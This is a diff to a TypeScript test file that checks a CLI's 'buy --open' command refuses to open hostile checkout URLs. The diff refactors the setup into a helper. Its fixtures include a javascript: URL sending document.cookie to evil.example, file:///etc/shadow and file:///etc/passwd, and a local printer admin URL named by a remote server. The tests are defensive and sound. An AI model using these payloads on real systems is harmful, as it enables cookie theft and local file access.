@@ -21,6 +21,15 @@ async function checkoutAnswering(url: string): Promise<string> {
   return mock.url;
 }
 
+/** `buy 500 --open ARGS` against `origin`, with a fake browser that writes down what it gets. */
+async function buyOpening(origin: string, args: string[] = []) {
+  const browser = fakeBrowser();
+  const result = await h.cli(['buy', '500', '--open', ...args], {
+    env: { PROFILE_ARTICLES_BASE_URL: origin, ...browser.env },
+  });
+  return { browser, result };
+}
+
 const HOSTILE: Array<[string, string]> = [
   ['a local file', 'file:///etc/shadow'],
   ['javascript:', 'javascript:fetch("https://evil.example/?"+document.cookie)'],
@@ -41,12 +50,8 @@ const remote = (url: string) => url.replace('//127.0.0.1:', '//[::ffff:127.0.0.1
 
 describe.skipIf(!linux)('buy --open opens only https, or http on this machine', () => {
   it('an https page reaches the browser (the fake sees what a real one would)', async () => {
-    const browser = fakeBrowser();
     const page = 'https://pay.example/checkout/cs_1?amount=500';
-    const url = await checkoutAnswering(page);
-    const result = await h.cli(['buy', '500', '--open'], {
-      env: { PROFILE_ARTICLES_BASE_URL: url, ...browser.env },
-    });
+    const { browser, result } = await buyOpening(await checkoutAnswering(page));
     expect(result.code).toBe(0);
     expect(await browser.firstCall()).toBe(page);
   });
@@ -60,11 +65,7 @@ describe.skipIf(!linux)('buy --open opens only https, or http on this machine', 
 
   for (const [what, page] of HOSTILE) {
     it(`${what}: never opened, one line on stderr, exit 1`, async () => {
-      const browser = fakeBrowser();
-      const url = await checkoutAnswering(page);
-      const result = await h.cli(['buy', '500', '--open'], {
-        env: { PROFILE_ARTICLES_BASE_URL: url, ...browser.env },
-      });
+      const { browser, result } = await buyOpening(await checkoutAnswering(page));
       expect(result.code).toBe(1);
       expect(browser.calls()).toEqual([]);
       expect(result.stdout).toBe('');
@@ -78,12 +79,8 @@ describe.skipIf(!linux)('buy --open opens only https, or http on this machine', 
 
   // Attack trial: a remote server named the local printer service's admin page and it was opened.
   it('plain http to this machine, named by a server on another one: never opened, exit 1', async () => {
-    const browser = fakeBrowser();
     const page = 'http://127.0.0.1:631/admin/?OP=add-printer';
-    const url = remote(await checkoutAnswering(page));
-    const result = await h.cli(['buy', '500', '--open'], {
-      env: { PROFILE_ARTICLES_BASE_URL: url, ...browser.env },
-    });
+    const { browser, result } = await buyOpening(remote(await checkoutAnswering(page)));
     expect(result.code).toBe(1);
     expect(browser.calls()).toEqual([]);
     expect(result.stdout).toBe('');
@@ -93,11 +90,7 @@ describe.skipIf(!linux)('buy --open opens only https, or http on this machine', 
   });
 
   it('--json: the refusal is the one {"error"} line, stdout stays empty', async () => {
-    const browser = fakeBrowser();
-    const url = await checkoutAnswering('file:///etc/passwd');
-    const result = await h.cli(['buy', '500', '--open', '--json'], {
-      env: { PROFILE_ARTICLES_BASE_URL: url, ...browser.env },
-    });
+    const { browser, result } = await buyOpening(await checkoutAnswering('file:///etc/passwd'), ['--json']);
     expect(result.code).toBe(1);
     expect(browser.calls()).toEqual([]);
     expect(result.stdout).toBe('');
